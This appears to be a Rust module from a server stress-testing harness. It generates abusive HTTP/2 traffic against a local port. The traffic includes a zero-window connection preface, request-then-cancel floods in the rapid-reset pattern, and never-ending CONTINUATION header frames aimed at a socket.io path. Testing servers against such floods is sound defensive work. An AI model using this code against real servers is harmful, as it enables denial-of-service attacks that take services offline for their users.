//! Frames of HTTP/2 that a well-behaved client does not send.

use std::{io, sync::Arc};

use rigs::wire::Wire;

use crate::behaviors::{self, Count, MARK};

/// Frames per write.
const FRAMES: u32 = 100;

/// Opens a connection without prior negotiation, with a window of zero bytes per stream, and sends
/// the frames that `next` returns for each stream.
pub(crate) async fn flood(
    port: u16,
    count: Arc<Count>,
    next: fn(u32) -> Vec<u8>,
) -> io::Result<()> {
    let mut wire = Wire::connect(port).await?;
    wire.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    // SETTINGS_INITIAL_WINDOW_SIZE = 0
    wire.send(&settings(&[0, 4, 0, 0, 0, 0])).await?;
    let mut number = 0;
    behaviors::flood(wire.into_stream(), count, ping(MARK), move || {
        let first = number;
        number = (number + FRAMES) % (u32::MAX / 4);
        ((first..first + FRAMES).flat_map(next).collect(), FRAMES.into())
    })
    .await
}

/// A GET request of a client that expects a response.
pub(crate) fn request(number: u32) -> Vec<u8> {
    // END_STREAM and END_HEADERS
    frame(1, 5, 2 * number + 1, &head())
}

/// A request that is canceled at once.
pub(crate) fn reset_request(number: u32) -> Vec<u8> {
    let cancel = frame(3, 0, 2 * number + 1, &[0, 0, 0, 8]);
    [request(number), cancel].concat()
}

/// The head of a request that never ends.
pub(crate) fn continuation(number: u32) -> Vec<u8> {
    match number {
        0 => frame(1, 1, 1, &head()),
        // A header without an entry in the table: a: b
        _ => frame(9, 0, 1, &[0, 1, b'a', 1, b'b'].repeat(20)),
    }
}

pub(crate) fn settings(settings: &[u8]) -> Vec<u8> {
    frame(4, 0, 0, settings)
}

pub(crate) fn ping(data: &[u8; 8]) -> Vec<u8> {
    frame(6, 0, 0, data)
}

/// The pseudo-headers of a request, without compression of the texts (RFC 7541).
fn head() -> Vec<u8> {
    let path = b"/socket.io/?EIO=4&transport=none";
    // :method GET, :scheme http, :path, :authority x
    [&[0x82, 0x86, 0x04, path.len() as u8][..], path, &[0x01, 1, b'x']].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
